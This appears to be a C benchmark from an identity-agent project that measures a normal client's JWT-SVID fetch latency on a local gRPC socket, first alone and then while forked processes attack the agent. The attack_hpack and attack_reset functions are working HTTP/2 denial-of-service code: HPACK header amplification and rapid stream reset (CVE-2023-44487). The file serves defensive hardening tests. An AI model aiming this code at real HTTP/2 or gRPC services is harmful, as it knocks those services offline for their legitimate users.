/*
 * bench/grpc-abuse: a normal client's FetchJWTSVID latency on a real
 * cubeid-agent, alone and while other processes attack the same socket
 * (hardening issue, Medium 6):
 *   - hpack: each attacker sends requests whose header block puts a 4,000
 *     byte field in the HPACK dynamic table and references it 10,000 times;
 *   - reset: each attacker opens streams and resets them at once (rapid
 *     reset, CVE-2023-44487), reconnecting when the agent says GOAWAY.
 * It prints p50 and p99 of each phase and the ratio of each p50 to the
 * baseline's, measured in this one run.  No thresholds: the machine is
 * noisy, compare ratios.
 *
 * The attackers run as another uid than the client (--attacker-uid,
 * default 65534 when run as root), as a hostile local user would: the
 * agent's defences are per uid.  Run without root, they share the
 * client's uid, and the bench says so.
 *
 * With --attacker-cgroup DIR each attacker moves itself into that cgroup
 * (DIR/cgroup.procs, v1 or v2) before it drops to the attacker uid, so that
 * the attackers share one CPU weight, as one pod's processes do on a node
 * (run-grpc-abuse.sh --cgroups sets this up).
 *
 *   grpc-abuse --socket PATH [--seconds N] [--attackers K] [--attacker-uid UID]
 *              [--attacker-cgroup DIR]
 */
#include "config.h"

#include <errno.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cubeid/workloadapi.h>

#include "tests/h2-test-util.h"

static const char *sock_path;
static long attacker_uid = -1; /* -1: the client's */
static const char *attacker_cgroup;

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int
cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

/* ------------------------------------------------------------ attackers */

static size_t
request_fields(uint8_t *b, size_t off)
{
	put_hdr(b, &off, ":method", "POST");
	put_hdr(b, &off, ":scheme", "http");
	put_hdr(b, &off, ":path", "/SpiffeWorkloadAPI/FetchJWTSVID");
	put_hdr(b, &off, "content-type", "application/grpc");
	put_hdr(b, &off, "workload.spiffe.io", "true");
	return off;
}

static int
h2_connect(uint8_t *b, size_t *off)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock_path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		if (fd >= 0)
			close(fd);
		return -1;
	}
	put_h2_start(b, off);
	return fd;
}

/* Send b, and read whatever comes back so that the agent's output never
 * blocks on us; returns when the agent closes or `until` passes. */
static void
blast(int fd, const uint8_t *b, size_t n, double until)
{
	size_t sent = 0;
	uint8_t junk[16384];

	while (now_s() < until) {
		struct pollfd p = {.fd = fd, .events = POLLIN | (sent < n ? POLLOUT : 0)};

		if (poll(&p, 1, 100) < 0)
			return;
		if (p.revents & POLLIN) {
			ssize_t r = read(fd, junk, sizeof(junk));

			if (r <= 0)
				return;
		}
		if (p.revents & (POLLERR | POLLHUP))
			return;
		if ((p.revents & POLLOUT) && sent < n) {
			ssize_t w = send(fd, b + sent, n - sent, MSG_NOSIGNAL | MSG_DONTWAIT);

			if (w < 0 && errno != EAGAIN && errno != EINTR)
				return;
			if (w > 0)
				sent += (size_t)w;
		}
		if (sent == n)
			return;
	}
}

static void
attack_hpack(double until)
{
	static uint8_t b[64 * 1024];

	while (now_s() < until) {
		size_t off, hb, end, i;
		int fd = h2_connect(b, &off);

		if (fd < 0) {
			usleep(1000);
			continue;
		}
		for (uint32_t sid = 1; sid < 8 && off + 16 * 1024 < sizeof(b); sid += 2) {
			hb = off + 9;
			end = request_fields(b, hb);
			hpack_int(b, &end, 0x40, 6, 0);
			hpack_int(b, &end, 0x00, 7, 1);
			b[end++] = 'x';
			hpack_int(b, &end, 0x00, 7, 4000);
			memset(b + end, 'b', 4000);
			end += 4000;
			for (i = 0; i < 10000; i++)
				b[end++] = 0x80 | 62;
			put_frame_hdr(b + off, end - hb, 0x1, 0x4 | 0x1, sid);
			off = end;
		}
		blast(fd, b, off, until);
		close(fd);
	}
}

static void
attack_reset(double until)
{
	static uint8_t b[256 * 1024];

	while (now_s() < until) {
		size_t off;
		int fd = h2_connect(b, &off);

		if (fd < 0) {
			usleep(1000);
			continue;
		}
		for (uint32_t sid = 1; off + 200 < sizeof(b); sid += 2) {
			size_t hb = off + 9, end = request_fields(b, hb);

			put_frame_hdr(b + off, end - hb, 0x1, 0x4, sid);
			off = end;
			put_frame_hdr(b + off, 4, 0x3, 0, sid);
			memset(b + off + 9, 0, 3);
			b[off + 12] = 0x8; /* CANCEL */
			off += 13;
		}
		blast(fd, b, off, until);
		close(fd);
	}
}

/* ------------------------------------------------------------ the client */

struct phase {
	const char *name;
	double p50, p99;
	size_t n, failed;
};

static void
measure(struct phase *ph, double seconds)
{
	const char *aud[] = {"bench-grpc-abuse"};
	struct cubeid_wl_opts o = {.socket = sock_path};
	size_t cap = 1u << 20, n = 0;
	double *lat = malloc(cap * sizeof(*lat)), until = now_s() + seconds;

	ph->failed = 0;
	while (lat != NULL && now_s() < until && n < cap) {
		struct cubeid_wl_jwt *j = NULL;
		struct cubeid_wl_status st;
		double t0 = now_s();

		if (cubeid_wl_fetch_jwt(&o, aud, 1, NULL, &j, &st) == 0)
			lat[n++] = now_s() - t0;
		else
			ph->failed++;
		cubeid_wl_jwt_free(j);
	}
	ph->n = n;
	ph->p50 = ph->p99 = 0;
	if (n > 0) {
		qsort(lat, n, sizeof(*lat), cmp_double);
		ph->p50 = lat[n / 2];
		ph->p99 = lat[n * 99 / 100];
	}
	free(lat);
}

/* Move this process into the cgroup DIR ("0": the writer itself). */
static int
join_cgroup(const char *dir)
{
	char path[4096];
	FILE *f;
	int ok;

	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	if ((f = fopen(path, "w")) == NULL) {
		perror(path);
		return -1;
	}
	ok = fputs("0\n", f) >= 0;
	if (fclose(f) != 0 || !ok) {
		perror(path);
		return -1;
	}
	return 0;
}

static void
run_phase(struct phase *ph, void (*attack)(double), int attackers, double seconds)
{
	pid_t pids[64];
	int i, k = 0;

	if (attack != NULL) {
		double until = now_s() + seconds + 1.0;

		for (i = 0; i < attackers && i < 64; i++) {
			pid_t p = fork();

			if (p == 0) {
				if (attacker_cgroup != NULL && join_cgroup(attacker_cgroup) != 0)
					_exit(3);
				if (attacker_uid >= 0 &&
				    (setgroups(0, NULL) != 0 || setgid((gid_t)attacker_uid) != 0 ||
				     setuid((uid_t)attacker_uid) != 0)) {
					perror("grpc-abuse: attacker: setuid");
					_exit(3);
				}
				attack(until);
				_exit(0);
			}
			if (p > 0)
				pids[k++] = p;
		}
		usleep(300 * 1000); /* let the attack start */
	}
	measure(ph, seconds);
	for (i = 0; i < k; i++) {
		kill(pids[i], SIGKILL);
		waitpid(pids[i], NULL, 0);
	}
}

int
main(int argc, char **argv)
{
	struct phase ph[3] = {{.name = "alone"}, {.name = "hpack"}, {.name = "reset"}};
	double seconds = 5;
	int attackers = 4, i;

	for (i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--socket") == 0 && i + 1 < argc)
			sock_path = argv[++i];
		else if (strcmp(argv[i], "--seconds") == 0 && i + 1 < argc)
			seconds = atof(argv[++i]);
		else if (strcmp(argv[i], "--attackers") == 0 && i + 1 < argc)
			attackers = atoi(argv[++i]);
		else if (strcmp(argv[i], "--attacker-uid") == 0 && i + 1 < argc)
			attacker_uid = atol(argv[++i]);
		else if (strcmp(argv[i], "--attacker-cgroup") == 0 && i + 1 < argc)
			attacker_cgroup = argv[++i];
		else {
			fprintf(stderr,
			        "usage: %s --socket PATH [--seconds N] [--attackers K] "
			        "[--attacker-uid UID] [--attacker-cgroup DIR]\n",
			        argv[0]);
			return strcmp(argv[i], "--help") == 0 ? 0 : 2;
		}
	}
	if (sock_path == NULL || seconds <= 0 || attackers < 1) {
		fprintf(stderr, "grpc-abuse: --socket is required\n");
		return 2;
	}
	if (attacker_uid < 0 && geteuid() == 0)
		attacker_uid = 65534;
	if (attacker_uid >= 0 && (uid_t)attacker_uid != geteuid())
		printf("grpc-abuse: the client runs as uid %u, the %d attackers as uid %ld\n",
		       (unsigned)geteuid(), attackers, attacker_uid);
	else
		printf("grpc-abuse: NOTE: the attackers run as the client's uid %u (not root, or "
		       "--attacker-uid said so): the agent's per-uid defences cannot tell them "
		       "apart\n",
		       (unsigned)geteuid());
	run_phase(&ph[0], NULL, 0, seconds);
	run_phase(&ph[1], attack_hpack, attackers, seconds);
	run_phase(&ph[2], attack_reset, attackers, seconds);
	printf("%-8s %10s %10s %10s %8s %8s\n", "phase", "calls", "p50 ms", "p99 ms", "failed",
	       "p50/alone");
	for (i = 0; i < 3; i++)
		printf("%-8s %10zu %10.3f %10.3f %8zu %8.2f\n", ph[i].name, ph[i].n,
		       ph[i].p50 * 1e3, ph[i].p99 * 1e3, ph[i].failed,
		       ph[0].p50 > 0 ? ph[i].p50 / ph[0].p50 : 0.0);
	/* a smoke run checks that every phase served its client */
	for (i = 0; i < 3; i++)
		if (ph[i].n == 0)
			return 1;
	return 0;
}
